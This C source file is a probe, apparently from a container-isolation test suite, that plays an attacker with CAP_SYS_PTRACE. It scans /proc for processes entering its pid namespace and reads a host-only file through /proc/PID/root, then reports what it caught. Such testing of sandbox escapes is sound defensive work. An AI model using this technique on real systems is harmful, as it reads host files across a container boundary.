/* An attacker holding CAP_SYS_PTRACE, PID 1 of its container, looking through
 * /proc/PID/root of every process that shows up in its pid namespace for a
 * file that exists only on the host.
 *
 *   procspy PATH RESULT STOPFILE SECONDS
 *
 * Spins until it reads PATH, STOPFILE exists or SECONDS pass, then writes to
 * RESULT: "seen N" (foreign pids seen), "read 0|1", and what it read, if anything.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PID (1 << 22)
static unsigned char seen[MAX_PID / 8];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: procspy PATH RESULT STOPFILE SECONDS\n");
        return 2;
    }
    const char *target = argv[1];
    double deadline = now() + atof(argv[4]);
    long count = 0, loops = 0;
    int read_it = 0;
    char found[256] = "", path[4096];
    pid_t self = getpid();
    while (now() < deadline && (loops++ % 64 || access(argv[3], F_OK) != 0)) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        struct dirent *e;
        while ((e = readdir(proc))) {
            if (!isdigit((unsigned char)e->d_name[0]))
                continue;
            long pid = atol(e->d_name);
            if (pid == self || pid >= MAX_PID)
                continue;
            if (!(seen[pid / 8] & (1 << pid % 8))) {
                seen[pid / 8] |= 1 << pid % 8;
                count++;
            }
            snprintf(path, sizeof path, "/proc/%ld/root%s", pid, target);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                ssize_t n = read(fd, found, sizeof found - 1);
                found[n > 0 ? n : 0] = 0;
                read_it = 1;
                close(fd);
                break; /* caught: say so at once */
            }
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (read_it)
            break;
    }
    /* Written whole, then renamed: whoever waits for RESULT never reads half of it. */
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", argv[2]);
    FILE *out = fopen(tmp, "w");
    if (!out)
        return 1;
    fprintf(out, "seen %ld\nread %d\n%s", count, read_it, found);
    fclose(out);
    return rename(tmp, argv[2]) != 0;
}
